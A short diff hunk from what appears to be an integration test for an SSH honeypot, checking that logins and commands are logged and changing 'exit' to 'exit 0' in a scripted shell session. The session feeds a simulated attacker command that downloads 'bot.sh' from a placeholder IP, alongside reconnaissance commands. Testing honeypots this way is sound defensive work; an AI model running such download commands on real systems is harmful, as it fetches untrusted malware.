@@ -110,7 +110,7 @@ expect_log "ssh login with HASSH" 'shell01 ssh - auth_attempt' 'username="root"'
 expect_log "exec command" 'shell01 ssh - command' 'command="uname -a; id"'
 
 # --- PTY shell
-printf 'whoami\ncd /tmp && pwd\nwget http://203.0.113.9/bot.sh\nexit\n' \
+printf 'whoami\ncd /tmp && pwd\nwget http://203.0.113.9/bot.sh\nexit 0\n' \
     | timeout 30 sshpass -p s3cret ssh -tt "${SSHOPTS[@]}" -p "$(p 22)" deploy@$SHELLBOX >"$WORK/shell.out" 2>&1 \
     || { cat "$WORK/shell.out"; fail "ssh shell"; }
 tr -d '\r' <"$WORK/shell.out" >"$WORK/shell.txt"
